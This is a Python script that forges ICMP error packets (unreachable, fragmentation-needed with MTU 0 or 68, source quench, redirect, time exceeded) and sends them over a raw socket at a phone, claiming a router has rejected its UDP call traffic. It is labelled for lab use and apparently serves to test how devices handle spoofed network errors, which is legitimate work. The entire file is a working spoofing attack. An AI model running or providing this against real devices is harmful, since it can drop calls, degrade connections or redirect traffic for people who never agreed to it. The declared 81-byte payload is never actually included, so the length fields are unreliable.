# SPDX-License-Identifier: GPL-3.0-or-later
"""Throws ICMP errors at a phone: a router, or somebody who says he is one. Run inside of a lab.

Usage: icmp_forger.py TARGET PORT PEER PEER_PORT COUNT

Each claims that a UDP datagram of TARGET:PORT to PEER:PEER_PORT met an error (RFC 792, RFC 1191); all kinds by turns.
Prints how many it has sent.
"""

import ipaddress
import socket
import struct
import sys

# type, code, the second word of the header
ERRORS = {
    "host unreachable": (3, 1, 0),
    "port unreachable": (3, 3, 0),
    "fragmentation needed, MTU 68": (3, 4, 68),
    "fragmentation needed, MTU 0": (3, 4, 0),
    "prohibited": (3, 13, 0),
    "source quench": (4, 0, 0),
    "redirect": (5, 1, int(ipaddress.ip_address("192.0.2.99"))),
    "time exceeded": (11, 0, 0),
    "parameter problem": (12, 0, 0),
}


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def error(kind: tuple, source: tuple, target: tuple) -> bytes:
    """An ICMP message about a datagram of a call, 81 bytes of payload."""
    ends = ipaddress.ip_address(source[0]).packed + ipaddress.ip_address(target[0]).packed
    inner = struct.pack("!BBHHHBBH", 0x45, 0, 28 + 81, 7, 0x4000, 60, socket.IPPROTO_UDP, 0) + ends
    inner += struct.pack("!HHHH", source[1], target[1], 8 + 81, 0)
    start = struct.pack("!BBHI", kind[0], kind[1], 0, kind[2])
    return start[:2] + struct.pack("!H", checksum(start + inner)) + start[4:] + inner


def main() -> None:
    target, peer, count = (sys.argv[1], int(sys.argv[2])), (sys.argv[3], int(sys.argv[4])), int(sys.argv[5])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    kinds = list(ERRORS.values())
    for i in range(count):
        raw.sendto(error(kinds[i % len(kinds)], target, peer), (target[0], 0))
    print(count)


main()
